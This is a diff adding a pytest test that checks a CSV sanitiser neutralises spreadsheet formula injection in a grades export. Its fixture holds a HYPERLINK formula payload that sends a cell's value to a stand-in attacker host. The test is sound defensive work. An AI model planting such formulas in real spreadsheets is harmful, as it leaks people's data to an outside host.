@@ -26,3 +26,16 @@ def test_numbers_and_plain_text_stay_as_they_are(value):
 def test_header_and_none_cells_are_safe():
     """Is a header made safe too, and is None an empty cell?"""
     assert spreadsheet.safe_row(["=x", None, 1]) == ["'=x", "", 1]
+
+
+def test_a_csv_written_by_another_tool_is_made_safe(tmp_path):
+    """Does make_safe (run on nbgrader export's grades.csv) neutralise a formula id once,
+    and keep numbers and plain text as they were?"""
+    path = tmp_path / "export.csv"
+    path.write_text('student_id,score\n"=HYPERLINK(""http://evil.example?""&B2,""x"")",-1.5\nada,12\n')
+    for _ in range(2):  # a second pass changes nothing
+        spreadsheet.make_safe(path)
+        with open(path, newline="") as f:
+            rows = list(csv.reader(f))
+        assert rows == [["student_id", "score"],
+                        ["\'=HYPERLINK(\"http://evil.example?\"&B2,\"x\")", "-1.5"], ["ada", "12"]]
